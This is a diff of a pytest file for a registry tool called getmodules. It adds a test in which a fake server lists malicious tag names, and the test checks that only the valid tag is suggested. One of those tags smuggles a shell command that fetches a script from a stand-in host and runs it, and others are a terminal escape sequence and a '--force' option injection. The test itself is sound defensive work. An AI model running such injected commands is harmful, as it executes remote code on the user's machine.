@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -9,9 +10,10 @@ import pytest
 
 from getmodules import AuthenticationError, Client, NotFoundError
 from getmodules.testing import Access, Behaviour, Registry, User
-from tests.support.commandline import Result, run
+from tests.support.commandline import Result, call, run
 from tests.support.projects import Project
 from tests.support.refusals import refusal
+from tests.support.servers import Connection, Received, serving
 from tests.support.snapshots import snapshot
 
 
@@ -97,6 +99,7 @@ def test_without_a_repository_what_failed_first_is_told(registry: Registry, clie
     assert error.message.startswith(f"the tag latest (none was named): {registry.host} answered 404")
     error = refusal(NotFoundError, "not-found", client.resolve, f"oci://{registry.host}/acme/none?tag=1")
     assert error.message.startswith(f"{registry.host} answered 404")
+    assert f"getmodules auth check {registry.host}/acme/none shows" in str(error.hint)
 
 
 def test_who_may_not_see_the_repository_sees_no_tags(client: Client) -> None:
@@ -160,3 +163,19 @@ def test_add_without_latest_proposes_what_there_is(place: Place, registry: Regis
     assert "hint: name one that is there, as in ?tag=1.0.0" in refused.err
     assert not place.manifest.exists()
     assert not place.has_lock
+
+
+def test_what_is_no_tag_is_not_proposed(tmp_path: Path) -> None:
+    listed = ["\x1b[2J", "1.0;curl evil.example|sh", "--force", "2.0"]
+
+    def answer(connection: Connection, received: Received) -> bool:
+        if "/tags/list" in received.target:
+            return connection.reply("200 OK", json.dumps({"tags": listed}).encode(), Content_Type="application/json")
+        return connection.reply("404 Not Found")
+
+    with serving(answer) as server:
+        environ = {"HOME": str(tmp_path), "GETMODULES_PLUGINS": ""}
+        result = call("get", f"oci://127.0.0.1:{server.port}/a/b", tmp_path / "dest", "--json", environ=environ)
+    error = result.object["error"]
+    assert error["message"] == "there is no tag latest (none was named); there are: 2.0"
+    assert error["hint"] == "name one that is there, as in ?tag=2.0"
